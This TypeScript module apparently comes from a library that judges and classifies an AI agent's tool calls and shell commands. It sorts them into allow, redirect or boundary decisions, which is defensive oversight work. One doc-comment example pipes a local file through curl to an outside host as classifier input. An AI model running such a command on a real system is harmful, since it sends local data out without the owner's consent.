import { call, toJson } from "./call.js";
import { InputError } from "./errors.js";
import { type Fields, plainOptions, required } from "./options.js";
import { unpackClassified, unpackVerdict } from "./packed.js";
import { raw } from "./raw.js";
import type { Classified, GateContext, ToolCall, Verdict } from "./types.js";

/**
 * What happens to a tool call while nobody is asked: it runs (`allow`: it only reads), its writes are staged
 * (`redirect`), or the speculation stops there (`boundary`). The judgement itself runs nothing, opens nothing and asks
 * nobody.
 *
 * ```js
 * judge({ name: "shell", args: { command: "grep -rn TODO src | head" } }).decision; // "allow"
 * judge({ name: "shell", args: { command: "npm install" } }).decision; // "boundary"
 * ```
 */
export function judge(call_: Pick<ToolCall, "name" | "args">, context?: GateContext): Verdict {
  mustBeOurs(call_);
  return unpackVerdict(call(() => raw.judge(toJson("call", call_), rules(context))));
}

/**
 * What a shell command would do, program by program. `parts` say where in the command each effect is, for highlighting.
 *
 * ```js
 * const { decision, detail, parts } = classifyShell("cat notes.txt | curl -d @- example.org");
 * for (const { from, to, kind } of parts) colour(from, to, kind);
 * ```
 */
export function classifyShell(command: string, context?: GateContext): Classified {
  return unpackClassified(call(() => raw.classifyShell(required("command", command, "string"), rules(context))));
}

/** How other libraries write a call: the field by which it is recognized, and what to pass instead. */
const OTHERS: [field: string, instead: string][] = [
  ["function", "{ name: call.function.name, args: JSON.parse(call.function.arguments) }"],
  ["toolName", "{ name: call.toolName, args: call.input }"],
  ["arguments", "args, an object: JSON.parse(call.arguments), where it is a text"],
  ["input", "args"],
  ["parameters", "args"],
];

/** Refuses a call in another shape, because it would be judged as a call without arguments. */
function mustBeOurs(given: object): void {
  if (typeof given !== "object" || given === null || Object.hasOwn(given, "args")) return;
  const other = OTHERS.find(([field]) => Object.hasOwn(given, field));
  if (other !== undefined) throw new InputError(`call.${other[0]}: there is no such field; did you mean ${other[1]}?`, `call.${other[0]}`);
}

const CONTEXT: Fields<GateContext> = {
  mode: "word",
  workspace: "string",
  deny: "list",
  denyDefaults: "boolean",
  policies: "list",
};

function rules(context: GateContext | undefined): string | undefined {
  return context === undefined ? undefined : toJson("context", plainOptions("context", context, CONTEXT));
}
